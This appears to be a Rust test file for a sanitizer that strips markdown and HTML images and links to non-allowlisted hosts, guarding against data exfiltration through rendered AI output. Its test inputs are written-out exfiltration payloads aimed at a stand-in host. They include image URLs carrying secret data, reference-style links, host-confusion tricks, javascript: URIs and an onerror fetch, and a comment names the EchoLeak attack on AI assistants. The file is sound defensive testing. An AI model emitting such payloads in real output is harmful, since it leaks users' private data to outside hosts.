use bastion_guard::{IMAGE_REMOVED, LINK_REMOVED, UrlAllowlist, neutralize};

fn allow() -> UrlAllowlist {
    UrlAllowlist::new(["docs.example.com", "bücher.example"]).unwrap()
}

fn run(text: &str) -> String {
    neutralize(text, &allow()).unwrap().text
}

/// No trace of the attacker's host is left.
fn assert_clean(out: &str) {
    assert!(!out.to_lowercase().contains("evil"), "left a URL in: {out}");
}

#[test]
fn a4_markdown_image_exfiltration_is_removed() {
    let text = "Summary done. ![x](https://evil.example/?d=SECRET_DATA) Thanks.";
    let n = neutralize(text, &allow()).unwrap();
    assert_eq!(n.text, format!("Summary done. {IMAGE_REMOVED} Thanks."));
    assert_eq!((n.images_removed, n.links_removed), (1, 0));
    assert!(n.changed());
}

#[test]
fn a4_reference_style_image_and_link_are_removed() {
    // EchoLeak used reference-style markdown to slip past inline-link filters.
    let text = "Here is the chart ![chart][ref] and [the report][1].\n\n[ref]: https://evil.example/log?d=q4-revenue\n[1]: <https://evil.example/r> \"title\"\n";
    let out = run(text);
    assert_clean(&out);
    assert_eq!(
        out,
        format!("Here is the chart {IMAGE_REMOVED} and the report {LINK_REMOVED}.\n\n\n\n")
    );
}

#[test]
fn inline_links_keep_their_text() {
    let out = run("Read [the guide](https://evil.example/g?x=1 \"t\") now.");
    assert_eq!(out, format!("Read the guide {LINK_REMOVED} now."));
}

#[test]
fn allowlisted_hosts_stay() {
    let text = "See [docs](https://docs.example.com/a?b=1) and ![logo](https://DOCS.example.com/l.png) and <https://docs.example.com/x> and https://docs.example.com/y. [r]\n\n[r]: https://docs.example.com/r\n";
    assert_eq!(run(text), text);
    // IDNA: the allowlisted Unicode host matches its punycode form and vice versa.
    let idn = "![b](https://xn--bcher-kva.example/i.png) ![c](https://bücher.example/i.png)";
    assert_eq!(run(idn), idn);
}

#[test]
fn host_tricks_do_not_pass() {
    for text in [
        "![a](https://docs.example.com@evil.example/x)",
        "![a](https://docs.example.com.evil.example/x)",
        "![a](//evil.example/x)",
        "![a](https:/\\evil.example/x)",
        "![a](&#104;ttps://evil.example/x)",
        "![a](javascript:alert('evil'))",
        "![a](data:image/png;base64,ZXZpbA==)",
        "![a](/relative/evil.png)",
        "![a](<https://evil.example/x y>)",
        "![a](https://evil.example/x(y))",
        "[![a](https://evil.example/i)](https://docs.example.com/)",
    ] {
        let out = run(text);
        assert_clean(&out);
        assert!(out.contains(IMAGE_REMOVED), "{text} → {out}");
    }
}

#[test]
fn escaped_userinfo_goes_to_the_allowlisted_host_and_the_sweep_removes_the_rest() {
    // CommonMark unescapes `\@`: the renderer fetches docs.example.com with userinfo
    // `evil.example`. The construct may stay; the bare-URL sweep still strips the look-alike.
    let out = run("![a](https://evil.example\\@docs.example.com/x)");
    assert_clean(&out);
}

#[test]
fn html_and_autolinks_are_neutralized() {
    for (text, marker) in [
        (
            "<img src=\"https://evil.example/p.png?d=1\">",
            IMAGE_REMOVED,
        ),
        ("<IMG SRC=https://evil.example/p.png>", IMAGE_REMOVED),
        (
            "<img alt='x' srcset='https://docs.example.com/a.png 1x, https://evil.example/b.png 2x'>",
            IMAGE_REMOVED,
        ),
        (
            "<img src=x onerror=\"fetch('//evil.example')\">",
            IMAGE_REMOVED,
        ),
        (
            "<div style=\"background:url(https://evil.example/b)\">",
            LINK_REMOVED,
        ),
        ("<a href='https://evil.example/'>click</a>", LINK_REMOVED),
        ("<https://evil.example/auto?d=1>", LINK_REMOVED),
        ("go to https://evil.example/bare?d=1.", LINK_REMOVED),
        ("go to www.evil.example/bare", LINK_REMOVED),
    ] {
        let out = run(text);
        assert_clean(&out);
        assert!(out.contains(marker), "{text} → {out}");
    }
    assert_eq!(
        run("<b>bold</b> <img src=\"https://docs.example.com/a.png\">"),
        "<b>bold</b> <img src=\"https://docs.example.com/a.png\">"
    );
}

#[test]
fn plain_text_and_code_are_left_alone() {
    for text in [
        "No links here, just [brackets] and a < b > c and 3//2.",
        "array[0] = x[1]; see note [1] (undefined).",
        "email me at jane@example.com",
    ] {
        assert_eq!(run(text), text);
    }
    let none = UrlAllowlist::none();
    let n = neutralize("[a](https://docs.example.com/)", &none).unwrap();
    assert_eq!(n.text, format!("a {LINK_REMOVED}"));
    assert!(UrlAllowlist::new(["bad host"]).is_err());
}

#[test]
fn adversarial_inputs_stay_linear_and_safe() {
    // Unclosed brackets and tags everywhere, then a real exfiltration attempt at the end.
    let mut text = "[".repeat(100_000);
    text.push_str(&"<a x ".repeat(20_000));
    text.push_str("![x](https://evil.example/?d=1) <img src=\"https://evil.example/p\">");
    let out = run(&text);
    assert_clean(&out);
}

#[test]
fn many_exclamation_marks_do_not_exhaust_the_parser() {
    let mut text = "Great!! ".repeat(5_000);
    text.push_str("![x](https://evil.example/?d=1)");
    let out = run(&text);
    let want = format!("{}{IMAGE_REMOVED}", "Great!! ".repeat(5_000));
    assert!(
        out == want,
        "len {} vs {}: tail {:?}",
        out.len(),
        want.len(),
        &out[out.len().saturating_sub(60)..]
    );
}
